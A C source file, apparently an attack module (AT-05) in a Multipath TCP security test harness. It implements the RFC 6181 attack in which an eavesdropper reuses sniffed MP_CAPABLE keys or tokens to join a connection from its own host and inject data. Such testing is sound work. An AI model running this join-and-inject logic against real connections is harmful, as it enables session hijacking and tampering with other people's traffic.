/* SPDX-License-Identifier: MIT */
/*
 * AT-05: who saw the MP_CAPABLE exchange joins the connection later, from a
 * host of its own. RFC 6181 section 6.2, RFC 7430 section 5.
 *
 * What it saw decides what it tries. Clear keys are used as RFC 8684 says, or
 * RFC 6824 where the version was 0.
 * Where only tokens were shown it joins all the same and proves possession of
 * the only secret-looking octets it has: the tokens.
 */
#include "atk_table.h"
#include "atk_join.h"
#include "mpx_tcp.h"

enum {
    FIRST_PORT = 40000,
    SYN_TRIES = 4,
};
#define RETRY UINT64_C(1000000000) /* ns */

static const char *const keys_words[] = {"sniffed", "wrong", NULL};
static const char *const goal_words[] = {"steal", "inject", NULL};
enum { KEYS, GOAL, SIZE };
enum { WRONG = 1, INJECT = 1 };
static const struct atk_param params[] = {
    [KEYS] = {"keys", ATK_P_WORD, .words = keys_words},
    [GOAL] = {"goal", ATK_P_WORD, .words = goal_words},
    [SIZE] = {"size", ATK_P_SIZE, .initial = 64000, .min = 1,
              .max = 1000000000},
    {.name = NULL},
};

enum stage { SEEN, JOINING, INSIDE, OUT };

struct victim {
    enum stage stage;
    struct atk_join join;
    unsigned tries;
};
struct state {
    struct atk_handshakes handshakes;
    struct victim v[ATK_HANDSHAKES_MAX];
};

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct atk_handshake *h = atk_handshakes_note(a, &st->handshakes, s);

    (void)now;
    if (h && atk_param(a, KEYS) == WRONG) {
        h->id[MPX_ROLE_I] ^= 1;
        atk_handshake_derive(h);
    }
    return ATK_PASS;
}

/* ---- joining ---- */

static void send_syn(struct atk *a, struct state *st, unsigned i, uint64_t now)
{
    struct victim *v = &st->v[i];

    atk_join_request(a, &v->join, &st->handshakes.v[i], false, now);
    v->tries++;
}

static void start_join(struct atk *a, struct state *st, unsigned i,
                       uint64_t now)
{
    struct victim *v = &st->v[i];

    atk_join_open(a, &v->join, &st->handshakes.v[i],
                  (uint16_t)(FIRST_PORT + i));
    v->stage = JOINING;
    send_syn(a, st, i, now);
}

static void on_start(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->handshakes.n; i++)
        if (st->v[i].stage == SEEN)
            start_join(a, st, i, now);
    atk_set_timer(a, now + RETRY);
}

/* ---- inside ---- */

static void inject_octets(struct atk *a, struct victim *v, bool again,
                          uint64_t now)
{
    if (atk_param(a, GOAL) == INJECT)
        atk_inside_inject(a, &v->join.in, atk_param(a, SIZE), again, now);
}

static void on_victim_segment(struct atk *a, struct state *st, unsigned i,
                              const uint8_t *hdr, uint8_t hdr_len, size_t len,
                              uint64_t now)
{
    struct victim *v = &st->v[i];
    bool synack = mpx_seg_kind_of(hdr[MPX_TCP_OFF_FLAGS]) == MPX_SEG_SYNACK;

    if (atk_join_take_segment(a, &v->join, &st->handshakes.v[i].key, hdr,
                              hdr_len, len, now))
        v->stage = INSIDE;
    if (!synack && v->stage == INSIDE)
        inject_octets(a, v, false, now);
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;
    unsigned i = (unsigned)seg->flow->local_port - FIRST_PORT;

    if (seg->flow->local_port < FIRST_PORT || i >= st->handshakes.n ||
        st->v[i].stage == SEEN || st->v[i].stage == OUT)
        return;
    if (seg->hdr[MPX_TCP_OFF_FLAGS] & MPX_TCP_RST) {
        st->v[i].stage = OUT;
        return;
    }
    on_victim_segment(a, st, i, seg->hdr, seg->hdr_len, seg->len, now);
}

static void on_timer(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->handshakes.n; i++) {
        struct victim *v = &st->v[i];

        if (v->stage == JOINING && v->tries < SYN_TRIES)
            send_syn(a, st, i, now);
        if (v->stage == INSIDE)
            inject_octets(a, v, true, now);
    }
    atk_set_timer(a, now + RETRY);
}

static void free_state(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->handshakes.n; i++)
        atk_tcp_free(&st->v[i].join.in.tcp);
}

const struct atk_ops atk_join_sniffed = {
    .name = "join-with-sniffed-keys",
    .id = "AT-05",
    .does = "joins the connection from its own host with the keys of the first "
            "handshake",
    .source = "RFC 6181 section 6.2; RFC 7430 section 5",
    .powers = ATK_READ | ATK_HOST,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = on_start,
    .on_host_segment = on_host_segment,
    .on_timer = on_timer,
    .free_state = free_state,
};
